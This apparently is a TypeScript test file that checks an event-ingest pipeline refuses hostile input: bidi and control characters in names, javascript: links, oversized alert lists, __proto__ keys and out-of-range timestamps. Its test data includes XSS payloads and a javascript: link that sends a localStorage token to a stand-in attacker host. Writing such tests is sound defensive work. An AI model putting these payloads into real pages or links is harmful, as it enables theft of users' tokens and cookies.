// Hostile input across every format, through the pipeline the ingest app runs (normalise, then
// validate against the newest schema): names that would forge log lines or reorder what a
// person reads are refused, links people would follow are http(s) only, lists are capped, keys a
// JavaScript object cannot hold are refused rather than dropped, and an out-of-range timestamp
// is reported as the producer wrote it.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { DecodeError, EventCodec, isHttpUrl, nameTextProblem } from '#contracts';
import { aChange, T0 } from '#testing';
import { IngestPipeline } from '../ingest-pipeline.js';
import type { CanonicalEvent } from '../normaliser.js';
import { createNormalisers } from './create-normalisers.js';
import { gitHubSignature } from './github.js';
import { codec, context, fixture, fixtureHeaders, raw, type Headers } from './spec-support.js';

const GITHUB_SECRET = 'aftershock-test-webhook-secret';
const pipeline = new IngestPipeline(
  createNormalisers({ codec, githubSecret: GITHUB_SECRET }),
  codec,
  context,
);

/** A golden payload of each format, with the service (and environment) it names. */
const GOLDEN: { format: string; file: string; dir?: string }[] = [
  { format: 'alertmanager', file: 'group.json' },
  { format: 'cdevents', file: 'service-deployed.json' },
  { format: 'cloudevents', file: 'structured-service-deployed.json' },
  { format: 'cloudevents', file: 'batch.json' },
  { format: 'cloudevents', file: 'binary-service-rolledback.json' },
  { format: 'pagerduty', file: 'trigger.json' },
  { format: 'pagerduty', file: 'change.json' },
  { format: 'argocd', file: 'synced.body.json' },
  { format: 'github', file: 'deployment_status-success.json' },
  { format: 'otlp_json', dir: 'otlp', file: 'all-types.json' },
];

function input(format: string, body: Buffer, file: string, dir = format) {
  const headers: Headers = { ...fixtureHeaders(dir, file) };
  if (format === 'github') headers['x-hub-signature-256'] = gitHubSignature(body, GITHUB_SECRET);
  return raw(body, headers, `spec:${format}`);
}

async function outcome(format: string, body: Buffer, file: string, dir?: string) {
  try {
    return { events: (await pipeline.prepare(format, input(format, body, file, dir))).events };
  } catch (error) {
    assert.ok(error instanceof DecodeError, `${format}: threw ${String(error)}`);
    return { refused: error };
  }
}

/** The payload with `from` replaced by `to` wherever it occurs in its JSON text (`to` escaped). */
function replaceText(body: Buffer, from: string, to: string): Buffer {
  const text = body.toString('utf8');
  assert.ok(text.includes(from), `the payload names ${from}`);
  return Buffer.from(text.split(from).join(JSON.stringify(to).slice(1, -1)));
}

const HOSTILE_NAMES: [string, string][] = [
  ['NUL', 'pay\u0000ments'],
  ['a newline', 'pay\nments'],
  ['a carriage return', 'pay\rments'],
  ['a lone surrogate', 'pay\ud800ments'],
  ['a right-to-left override (U+202E)', 'pay\u202ements'],
  ['a bidi isolate (U+2066)', 'pay\u2066ments'],
  ['a line separator (U+2028)', 'pay\u2028ments'],
];

describe('hostile input in every format', () => {
  for (const { format, file, dir } of GOLDEN) {
    it(`${format} (${file}): a service or environment name with a control or bidi character is refused`, async () => {
      const body = fixture(dir ?? format, file);
      const golden = await outcome(format, body, file, dir);
      assert.ok(golden.events && golden.events.length > 0, `${format}: the golden payload is accepted`);
      const first = golden.events[0]!.value;
      const names: [string, string][] = [['service', first.service]];
      if (body.includes(first.environment)) names.push(['environment', first.environment]);
      for (const [field, name] of names) {
        for (const [what, hostile] of HOSTILE_NAMES) {
          const result = await outcome(format, replaceText(body, name, hostile), file, dir);
          assert.ok(
            result.refused,
            `${format}: a ${field} with ${what} must be refused, got ${JSON.stringify(result.events?.map((e) => e.value[field as 'service']))}`,
          );
          assert.equal(
            result.refused.code,
            'validate.text',
            `${format} ${field} ${what}: ${result.refused.message}`,
          );
        }
      }
    });

    it(`${format} (${file}): no link other than http(s) gets through`, async () => {
      const body = fixture(dir ?? format, file);
      const text = body
        .toString('utf8')
        .replaceAll('"https://', '"javascript:alert(document.cookie)//')
        .replaceAll('"http://', '"javascript:alert(document.cookie)//');
      const result = await outcome(format, Buffer.from(text), file, dir);
      if (result.refused) {
        assert.ok(
          ['validate.url', 'validate.invalid-field'].includes(result.refused.code),
          result.refused.message,
        );
        return;
      }
      for (const url of linksOf(result.events)) assert.match(url, /^https?:\/\//i, `${format} kept ${url}`);
    });
  }

  it('a canonical change in a CloudEvent with a javascript: link is refused, naming the link', async () => {
    const event = {
      specversion: '1.0',
      id: 'ce-hostile-link',
      source: 'spec',
      type: 'dev.aftershock.change.v1',
      time: '2026-11-02T12:00:00Z',
      data: {
        kind: 'config',
        service: 'payments',
        links: [{ name: 'dashboard', url: 'javascript:fetch("//evil.example/"+localStorage.token)' }],
      },
    };
    const result = await outcome(
      'cloudevents',
      Buffer.from(JSON.stringify(event)),
      'structured-service-deployed.json',
    );
    assert.equal(result.refused?.code, 'validate.url');
    assert.match(result.refused.field ?? '', /links\[0\]\.url$/);
  });

  // Canonical events written straight to the canonical topics are decoded with this validation.
  const canonical = new EventCodec({ now: () => T0 + 3_600_000 });

  it('canonical JSON straight from a topic: a javascript: link and a service with U+202E are refused', async () => {
    const json = (v: unknown) => Buffer.from(JSON.stringify(v));
    const badLink = aChange({ links: [{ name: 'x', url: 'javascript:alert(1)' }] });
    await assert.rejects(canonical.decode('change', json(badLink)), {
      code: 'validate.url',
      field: 'links[0].url',
    });
    const badName = aChange({ service: 'checkout\u202e' });
    await assert.rejects(canonical.decode('change', json(badName)), {
      code: 'validate.text',
      field: 'service',
    });
  });

  it('Alertmanager: 10,001 alerts in one payload are refused like other formats’ lists (limit 10,000)', async () => {
    const group = JSON.parse(fixture('alertmanager', 'group.json').toString()) as { alerts: unknown[] };
    const alert = group.alerts[0];
    const body = Buffer.from(
      JSON.stringify({ ...group, alerts: Array.from({ length: 10_001 }, () => alert) }),
    );
    const result = await outcome('alertmanager', body, 'group.json');
    assert.equal(result.refused?.field, 'alerts');
    assert.match(result.refused.reason, /10001 entries; the limit is 10000/);
    const atLimit = Buffer.from(
      JSON.stringify({ ...group, alerts: Array.from({ length: 10_000 }, () => alert) }),
    );
    assert.ok((await outcome('alertmanager', atLimit, 'group.json')).events, '10,000 are accepted');
  });

  it('Alertmanager: a `__proto__` label is refused with a reason, never dropped silently', async () => {
    const text = fixture('alertmanager', 'group.json')
      .toString()
      .replace('"labels": {', '"labels": { "__proto__": "x",');
    assert.notEqual(text, fixture('alertmanager', 'group.json').toString());
    const result = await outcome('alertmanager', Buffer.from(text), 'group.json');
    assert.equal(result.refused?.code, 'validate.reserved-key');
    assert.equal(result.refused.field, 'alerts[0].labels.__proto__');
    assert.match(result.refused.reason, /__proto__/);
  });

  it('canonical JSON: a `__proto__` label is refused too', async () => {
    const text = JSON.stringify(aChange({ labels: { team: 'shop' } })).replace(
      '"labels":{',
      '"labels":{"__proto__":"x",',
    );
    await assert.rejects(canonical.decode('change', Buffer.from(text)), {
      code: 'validate.reserved-key',
      field: 'labels.__proto__',
    });
  });

  it('the name and link checks take linear time on long hostile text', () => {
    // A backtracking (quadratic) pattern would keep this test busy for minutes.
    const long = 'a'.repeat(60_000);
    assert.equal(isHttpUrl(`http://${long} `), false);
    assert.equal(isHttpUrl(`http://${long}`), true);
    assert.equal(isHttpUrl(`javascript://${long}`), false);
    assert.match(nameTextProblem(`${long}\u202e`) ?? '', /U\+202E at position 60000/);
    assert.equal(nameTextProblem(long), undefined);
  });

  it('an out-of-range 0001-01-01 is reported as itself, not as 1901', async () => {
    const group = JSON.parse(fixture('alertmanager', 'group.json').toString()) as {
      alerts: { startsAt: string }[];
    };
    group.alerts[0]!.startsAt = '0001-01-01T00:00:00Z';
    const result = await outcome('alertmanager', Buffer.from(JSON.stringify(group)), 'group.json');
    assert.equal(result.refused?.code, 'validate.timestamp');
    assert.match(result.refused.reason, /^0001-01-01T00:00:00\.000Z is outside/);
  });
});

function linksOf(events: readonly CanonicalEvent[]): string[] {
  const out: string[] = [];
  for (const { event, value } of events) {
    if (event === 'change') {
      out.push(...value.links.map((l) => l.url));
      if (value.pipeline?.url) out.push(value.pipeline.url);
    } else if (event === 'alert') {
      if (value.link) out.push(value.link);
      if (value.runbookUrl) out.push(value.runbookUrl);
    }
  }
  return out;
}
